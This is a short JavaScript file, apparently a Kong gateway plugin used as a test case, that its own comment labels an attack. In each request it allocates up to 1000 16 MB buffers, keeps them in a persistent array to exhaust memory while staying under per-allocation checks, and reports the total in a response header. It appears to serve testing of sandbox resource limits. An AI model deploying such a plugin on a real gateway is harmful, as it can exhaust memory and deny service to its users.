// Attack: keep allocating 16 MB ArrayBuffers (each one under any per-allocation check) and hold them.
const kept = [];
class Plugin {
  async access(kong) {
    let error = null;
    try {
      for (let i = 0; i < 1000; i++) kept.push(new ArrayBuffer(16 * 1024 * 1024));
    } catch (e) {
      error = `${e.name}: ${e.message}`;
    }
    await kong.response.setHeader('x-got', JSON.stringify({ mb: kept.length * 16, error }));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
